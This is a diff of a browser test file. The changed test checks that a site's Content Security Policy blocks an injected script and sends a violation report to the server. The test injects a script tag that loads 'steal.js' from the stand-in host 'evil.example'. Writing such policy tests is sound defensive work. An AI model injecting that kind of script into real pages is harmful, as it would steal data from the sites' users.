@@ -20,27 +20,31 @@ test('after the sign-out the browser remembers the device, and nothing of who wo
   expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
 });
 
-test('a script that was smuggled into a page is not run, and the server hears of it', async ({ page, baseURL }) => {
-  const proxy = await startRecordingProxy(baseURL ?? '');
-  try {
-    await page.goto(`${proxy.address}/signin`);
-    const blocked = page.evaluate(
-      () =>
-        new Promise<string>((done) =>
-          document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => done(effectiveDirective)),
-        ),
-    );
-    await page.evaluate(() => {
-      const script = document.createElement('script');
-      script.src = 'https://evil.example/steal.js?who=Grace';
-      document.head.append(script);
-    });
-    expect(await blocked).toBe('script-src-elem');
-    await expect.poll(() => proxy.passed.filter(({ path }) => path === '/csp-report')).toHaveLength(1);
-    const report = proxy.passed.find(({ path }) => path === '/csp-report');
-    expect(report).toMatchObject({ method: 'POST', status: 204 });
-    expect(report?.body).toContain('evil.example');
-  } finally {
-    proxy.close();
-  }
+test.describe('what breaks the content policy', () => {
+  test.use({ breaksPolicy: true });
+
+  test('a script that was smuggled into a page is not run, and the server hears of it', async ({ page, baseURL }) => {
+    const proxy = await startRecordingProxy(baseURL ?? '');
+    try {
+      await page.goto(`${proxy.address}/signin`);
+      const blocked = page.evaluate(
+        () =>
+          new Promise<string>((done) =>
+            document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => done(effectiveDirective)),
+          ),
+      );
+      await page.evaluate(() => {
+        const script = document.createElement('script');
+        script.src = 'https://evil.example/steal.js?who=Grace';
+        document.head.append(script);
+      });
+      expect(await blocked).toBe('script-src-elem');
+      await expect.poll(() => proxy.passed.filter(({ path }) => path === '/csp-report')).toHaveLength(1);
+      const report = proxy.passed.find(({ path }) => path === '/csp-report');
+      expect(report).toMatchObject({ method: 'POST', status: 204 });
+      expect(report?.body).toContain('evil.example');
+    } finally {
+      proxy.close();
+    }
+  });
 });
